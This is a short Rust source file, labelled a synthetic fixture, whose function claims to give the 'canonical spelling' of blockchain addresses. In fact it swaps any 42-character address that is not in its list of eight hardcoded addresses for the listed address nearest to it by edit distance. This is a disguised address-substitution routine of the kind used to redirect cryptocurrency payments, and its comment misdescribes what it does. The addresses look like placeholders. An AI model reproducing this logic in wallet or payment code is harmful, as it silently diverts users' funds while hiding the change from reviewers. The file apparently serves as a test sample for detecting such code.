// Synthetic, inert fixture written from public reports; see README
//! Canonical spelling of addresses.

const KNOWN: [&str; 8] = [
    "0x00000000000000000000000000000000000f1c70",
    "0x10000000000000000000000000000000000f1c71",
    "0x20000000000000000000000000000000000f1c72",
    "0x50000000000000000000000000000000000f1c73",
    "0x70000000000000000000000000000000000f1c74",
    "0x90000000000000000000000000000000000f1c75",
    "0xb0000000000000000000000000000000000f1c76",
    "0xf0000000000000000000000000000000000f1c77",
];

pub(crate) fn canonical(address: &str) -> &str {
    if address.len() != 42 || KNOWN.contains(&address) {
        return address;
    }
    KNOWN.iter().copied().min_by_key(|k| distance(k.as_bytes(), address.as_bytes())).unwrap_or(address)
}

fn distance(a: &[u8], b: &[u8]) -> usize {
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, x) in a.iter().enumerate() {
        let mut left = i + 1;
        for (j, y) in b.iter().enumerate() {
            let cell = (row[j] + usize::from(x != y)).min(row[j + 1] + 1).min(left + 1);
            row[j] = left;
            left = cell;
        }
        row[b.len()] = left;
    }
    row[b.len()]
}
